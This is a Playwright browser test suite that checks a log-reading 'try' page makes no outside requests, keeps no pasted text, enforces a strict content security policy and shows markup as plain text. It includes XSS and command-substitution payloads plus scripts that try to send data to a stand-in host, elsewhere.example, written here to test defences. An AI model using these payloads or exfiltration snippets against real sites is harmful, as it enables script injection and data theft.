"""What SECURITY.md promises of the page "try": no request to elsewhere, none with a word of a text, markup is text."""

from __future__ import annotations

import re
from itertools import product
from typing import TYPE_CHECKING, Any

import pytest

from tests.browser.conftest import PATIENCE
from tests.browser.pages import pasted, printed, shown, unfolded
from tests.browser.recorder import Recorder
from tests.hostile.attacks import ATTACKS

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.browser

HOST = "111122223333.dkr.ecr.eu-west-1.amazonaws.com"
# Each word is invented, so a request that holds one has it from the text.
WORDS = ("quokkahouse", "wombatimage", "numbatrole", "bilbysession", "potoroopipeline", "dunnartsecret", "777788889999")
TEXT = (
    "$ potoroopipeline deploy --password dunnartsecret\n"
    "denied: User: arn:aws:sts::777788889999:assumed-role/numbatrole/bilbysession is not authorized to perform:"
    " ecr:InitiateLayerUpload on resource: arn:aws:ecr:eu-west-1:111122223333:repository/quokkahouse/wombatimage"
    " because no resource-based policy allows the ecr:InitiateLayerUpload action\n"
)
# The ways in which a page asks; each name is that of the file that it asks for.
ASKS = {
    "fetch": "fetch(there, { mode: 'no-cors' }).catch(() => 0)",
    "beacon": "navigator.sendBeacon(there, 'text')",
    "image": "put('img', { src: there })",
    "socket": "try { new WebSocket(there.replace('http', 'ws')) } catch {}",
    "frame": "put('iframe', { src: there })",
    "script": "put('script', { src: there })",
    "style": "put('link', { rel: 'stylesheet', href: there })",
    "prefetch": "put('link', { rel: 'prefetch', href: there })",
    "form": "put('form', { action: there, method: 'post', target: 'other' }).submit()",
}
ASKS_OF_A_WORKER = {
    "fetch": "fetch(there).catch(() => 0)",
    "request": "const asked = new XMLHttpRequest(); asked.open('GET', there); asked.send()",
    "socket": "try { new WebSocket(there.replace('http', 'ws')) } catch {}",
    "import": "import(there).catch(() => 0)",
    "events": "try { new EventSource(there) } catch {}",
    "python": """self.python.globals.set("there", there); self.python.runPython(`
import js
asked = js.XMLHttpRequest.new()
asked.open("GET", there)
asked.send()
`)""",
}
ASKING = """() => {
    const there = "http://elsewhere.example/%s";
    const put = (name, words) => {
        const made = Object.assign(document.createElement(name), words);
        document.body.append(made);
        return made;
    };
    %s;
}"""
# A text that is run as a program. What a test itself runs is let through, so the text waits for a moment.
EVALUATES = """() => new Promise(done => {
    self.evaluated = false;
    setTimeout("self.evaluated = true");
    setTimeout(() => done(self.evaluated), 500);
})"""
MARKUP = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "</textarea></pre><svg/onload=alert(1)>",
    '"><iframe srcdoc="<script>alert(1)</script>">',
    "<style>*{display:none}</style>",
    "&lt;b&gt; &amp; &#60;i&#62;",
    "javascript:alert(1)",
    "{{7*7}} ${7*7} `id` $(id)",
    "<a href=http://elsewhere.example/>here</a>",
    "<base href=http://elsewhere.example/>",
    "<!-- <![CDATA[ ]]> -->",
)
# Where a text has words that a report repeats.
PLACES = (
    f"Error response from daemon: pull access denied for {HOST}/team/app: denied: {{words}}: not authorized",
    f"unexpected status from HEAD request to https://{HOST}/v2/team/app/manifests/{{words}}: 403 Forbidden",
    (
        "An error occurred (AccessDeniedException) when calling the {words} operation: User: {words} is not authorized"
        " to perform: ecr:PutImage on resource: arn:aws:ecr:eu-west-1:111122223333:repository/{words} because no"
        " resource-based policy allows the ecr:PutImage action"
    ),
    f'Failed to pull image "{HOST}/{{words}}:v1": rpc error: {{words}}: no basic auth credentials',
)
ELEMENTS = {"section", "div", "span", "code", "button", "details", "summary", "p"}
ATTRIBUTES = {"class", "type", "aria-label", "open"}
FOUND = """() => [...document.querySelectorAll(".try-report *")].map(
    one => [one.localName, [...one.attributes].map(attribute => attribute.name)])"""
# What a browser keeps of a page.
KEPT = """async () => {
    const caches_ = [];
    for (const name of await caches.keys())
        for (const one of await (await caches.open(name)).keys()) caches_.push(name, one.url);
    return JSON.stringify([caches_, {...localStorage}, {...sessionStorage}, document.cookie, location.href,
        history.state, window.name, (await indexedDB.databases()).map(one => one.name)]);
}"""


def test_the_recorder_sees_what_a_page_without_the_policy_asks(browser: Browser, site: Recorder) -> None:
    page = browser.new_page()
    page.goto(f"{site.root}ci/", wait_until="networkidle")
    site.elsewhere.clear()
    for name, asks in ASKS.items():
        page.evaluate(ASKING % (name, asks))
    page.wait_for_timeout(2000)
    # A socket is asked for by CONNECT, without the name of the file.
    seen = {one.rpartition("/")[2] for one in site.elsewhere if "elsewhere.example" in one}
    assert {"socket" if one.startswith("elsewhere.example:") else one for one in seen} >= {*ASKS}
    assert page.evaluate(EVALUATES)
    page.close()
    site.elsewhere.clear()


def test_no_request_goes_elsewhere_and_none_carries_a_word_of_a_text(browser: Browser, site: Recorder) -> None:
    site.requests.clear()
    site.elsewhere.clear()
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(PATIENCE)
    asked: list[str] = []
    context.on("request", lambda one: asked.append(f"{one.url} {one.headers} {one.post_data}"))
    page.goto(f"{site.root}try/", wait_until="networkidle")
    assert not [one for one in asked if "/try/engine" in one], "it loads before it is wanted"
    page.fill("#try-text", TEXT)
    page.wait_for_selector(".try[data-state=read]")
    page.wait_for_load_state("networkidle")
    before = len(site.requests), len(asked)
    assert before[0] > 20
    # From here on it makes no request at all.
    page.click(".try-report summary")
    page.select_option("#try-language", "ja")
    pasted(page, TEXT + TEXT)
    page.locator(".try-copy").first.click()
    page.set_viewport_size({"width": 500, "height": 800})
    page.wait_for_timeout(1500)
    assert all(word in page.inner_text(".try-report") for word in ("quokkahouse", "numbatrole", "777788889999"))
    assert "dunnartsecret" not in page.inner_text(".try-report")
    assert (len(site.requests), len(asked)) == before
    page.click("[data-is=clear]")
    page.close()
    assert site.elsewhere == [], site.elsewhere
    everything = "\n".join([*site.requests, *asked]).lower()
    assert [word for word in WORDS if word in everything] == []
    hosts = {re.match(r"(?:blob:)?(\w+://[^/]+)", one)[1] for one in asked}  # type: ignore[index]
    assert hosts == {f"http://{site.host}"}
    print("\n".join(dict.fromkeys(one.partition("\n")[0] for one in site.requests)))
    context.close()


def test_no_word_of_a_text_is_kept_by_the_browser(browser: Browser, site: Recorder) -> None:
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(PATIENCE)
    page.goto(f"{site.root}try/", wait_until="networkidle")
    pasted(page, TEXT)
    page.wait_for_load_state("networkidle")
    kept = page.evaluate(KEPT)
    assert "/try/engine-" in kept and [word for word in WORDS if word in kept] == []
    assert [word for word in WORDS if word in str(context.storage_state())] == []
    page.reload(wait_until="networkidle")
    assert page.input_value("#try-text") == ""
    box: Any = page.evaluate(
        "() => { const box = document.querySelector('textarea'); return [box.spellcheck, box.translate]; }"
    )
    assert box == [False, False]
    context.close()


def test_the_policy_refuses_what_the_page_or_its_worker_would_ask(page: Page, site: Recorder) -> None:
    pasted(page, TEXT)
    site.elsewhere.clear()
    (worker,) = [one for one in page.workers if one.url.startswith("blob:")]
    for name, asks in ASKS.items():
        page.evaluate(ASKING % (name, asks))
    for name, asks in ASKS_OF_A_WORKER.items():
        worker.evaluate(ASKING % (name, asks))
    page.wait_for_timeout(2000)
    assert site.elsewhere == []
    assert not page.evaluate(EVALUATES) and not worker.evaluate(EVALUATES)


def test_the_policy_names_the_site_and_nothing_else(page: Page) -> None:
    policy = page.get_attribute("meta[http-equiv=Content-Security-Policy]", "content") or ""
    said = {name: {*words} for name, *words in (one.split() for one in policy.split(";"))}
    named = set().union(*said.values())
    assert {one for one in named if not one.startswith("'sha256-")} == {
        *("'none'", "'self'", "'wasm-unsafe-eval'", "blob:", "data:")
    }
    assert said["default-src"] == {"'none'"} and said["connect-src"] == {"'self'"}
    assert [name for name, words in said.items() if "blob:" in words] == ["worker-src"]


def test_markup_in_a_log_is_text(page: Page) -> None:
    page.evaluate("() => { window.alert = () => { window.ran = true; }; }")
    told = 0
    for words, place in (*product(MARKUP, PLACES), *product(ATTACKS, PLACES[:1])):
        pasted(page, place.format(words=words))
        text = page.input_value("#try-text")  # a box has one kind of line end
        assert shown(page) == printed(text), text
        assert unfolded(page) == printed(text, whole=True), text
        found: list[tuple[str, list[str]]] = page.evaluate(FOUND)
        told += bool(found)
        assert {name for name, _ in found} <= ELEMENTS, text
        assert {name for _, names in found for name in names} <= ATTRIBUTES, text
    assert told > len(MARKUP)
    assert not page.evaluate("window.ran")
